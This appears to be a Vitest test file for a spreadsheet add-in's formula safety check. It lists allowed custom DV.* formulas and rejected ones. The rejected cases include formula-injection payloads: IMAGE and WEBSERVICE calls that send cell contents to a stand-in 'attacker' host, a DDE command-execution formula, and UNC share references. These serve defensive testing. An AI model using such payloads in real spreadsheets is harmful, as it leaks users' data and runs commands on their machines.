import { describe, expect, it } from 'vitest';
import { isSafeFormula } from './formulas.js';

describe('formulas the add-in may write', () => {
  it.each([
    '=DV.ASK("units by region", A1:H5001)',
    '=DV.FORECAST(B2:B73,, 12)',
    '=FILTER(A2:D99, DV.OUTLIERS(D2:D99))',
    '=DV.QUERY(A1:H500, "select region, sum(units) from data where name = ""=x[1]"" group by 1")',
    "=DV.PROFILE('Q3 orders'!A1:B9)",
    '=DV.STATUS()',
  ])('%s', (formula) => {
    expect(isSafeFormula(formula)).toBe(true);
  });

  it.each([
    'DV.STATUS()',
    '=A1+1',
    '=IMAGE("https://attacker/?"&A1)',
    '=DV.ASK(WEBSERVICE("https://attacker/"&A1))',
    '=DV.PROFILE([book.xlsx]S!A1:B2)',
    "=DV.PROFILE('\\\\host\\share\\[b.xlsx]S'!A1)",
    "=cmd|'/C calc'!A0",
    '=DV.NOSUCH(A1)',
    '=DV.STATUS("unclosed)',
    `=DV.ASK("${'x'.repeat(9_000)}")`,
  ])('not %s', (formula) => {
    expect(isSafeFormula(formula)).toBe(false);
  });
});
